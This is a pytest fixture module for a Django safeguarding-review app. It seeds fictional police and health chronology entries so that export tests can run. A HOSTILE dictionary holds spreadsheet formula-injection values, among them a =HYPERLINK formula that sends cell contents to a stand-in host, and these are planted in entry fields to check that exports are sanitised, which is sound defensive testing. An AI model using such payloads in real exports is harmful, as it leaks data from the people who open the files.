"""Agencies' submitted chronologies for the export tests, written straight to the models (the
tests of the exports need entries, not the journey that makes them).

The review (reviews.tests.conftest) is of the incident of Jayden Morrow (builders.CHILD_NAME),
led by Northbridge Youth Justice Service; the police and the health trust have submitted.
"""

from datetime import date, datetime, time

import pytest
from django.utils import timezone

from threadline.chronologies.domain.entries import PRECISION_RANK
from threadline.chronologies.models import AgencyChronology, ChronologyEntry, ChronologyVersion
from threadline.core.models import Role
from threadline.core.testing import make_organisation, make_person

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://x.example/?leak="&A1,"Click")',
    "plus": "+1+1",
    "at": "@SUM(A1)",
    "minus": "-2+3",
    "tab": "\tcmd",
    "return": "\r=1+2",
}


def submitted_version(review, organisation, *, by, number: int = 1, submitted_on=date(2025, 4, 3)):
    chronology = AgencyChronology.objects.filter(review=review, organisation=organisation).first()
    if chronology is None:
        chronology = AgencyChronology.objects.create(
            review=review,
            organisation=organisation,
            period_from=date(2023, 1, 1),
            period_to=date(2025, 3, 1),
            due_on=date(2025, 4, 14),
            requested_by=by,
        )
    return ChronologyVersion.objects.create(
        chronology=chronology,
        number=number,
        created_by=by,
        submitted_by=by,
        submitted_at=timezone.make_aware(datetime.combine(submitted_on, time(11, 0))),
    )


def entry(version, position: int, on: date, what: str, *, precision: str = "day", at=None, **parts):
    return ChronologyEntry.objects.create(
        version=version,
        position=position,
        occurred_on=on,
        occurred_time=at,
        precision=precision,
        precision_rank=PRECISION_RANK[precision],
        what_happened=what,
        **parts,
    )


@pytest.fixture
def police(db):
    return make_organisation("Northbridge Police", type="police")


@pytest.fixture
def health(db):
    return make_organisation("Riverside NHS Trust", type="health")


@pytest.fixture
def police_writer(police):
    return make_person(
        police, Role.PARTNER_AGENCY_LEAD, full_name="Pete Constable", email="pete@example.test"
    )


@pytest.fixture
def chronologies(review, chair, police, health):
    """Police (version 2 replaces version 1) and health have submitted; five entries in all."""
    old = submitted_version(review, police, by=chair, number=1, submitted_on=date(2025, 3, 20))
    entry(old, 1, date(2024, 3, 12), "An entry the police later replaced")
    police_v2 = submitted_version(review, police, by=chair, number=2, submitted_on=date(2025, 4, 3))
    entry(
        police_v2,
        1,
        date(2024, 3, 12),
        "Officers attended a report of a missing child.\nFound at a friend's address.",
        precision="time",
        at=time(14, 30),
        source="Niche record 24-1182",
        author_role="Police constable",
        who_was_present="Mother; two officers",
        childs_voice="Said he did not want to go home",
        opinion="Exploitation indicators were present and not referred",
        significant=True,
    )
    entry(police_v2, 2, date(2024, 6, 1), HOSTILE["hyperlink"], source=HOSTILE["plus"], opinion=HOSTILE["at"])
    health_v1 = submitted_version(review, health, by=chair, number=1, submitted_on=date(2025, 4, 1))
    entry(
        health_v1,
        1,
        date(2024, 3, 1),
        "School nurse drop-in sessions offered",
        precision="month",
        author_role="School nurse",
        childs_voice=HOSTILE["minus"],
        who_was_present=HOSTILE["tab"],
    )
    entry(health_v1, 2, date(2024, 3, 12), "Seen at the emergency department", author_role=HOSTILE["return"])
    entry(health_v1, 3, date(2025, 1, 20), "Missed appointment", significant=True)
    return {"police": police_v2, "health": health_v1}
